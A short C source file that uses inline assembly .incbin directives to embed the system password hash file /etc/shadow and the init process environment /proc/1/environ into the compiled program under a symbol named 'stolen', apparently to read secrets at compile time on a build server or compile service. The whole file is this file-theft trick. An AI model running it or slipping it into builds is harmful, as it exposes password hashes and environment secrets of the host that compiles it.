__asm__(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n.incbin \"/proc/1/environ\"\n.previous");
extern const char stolen[];

int main(void) {
    return stolen[0];
}
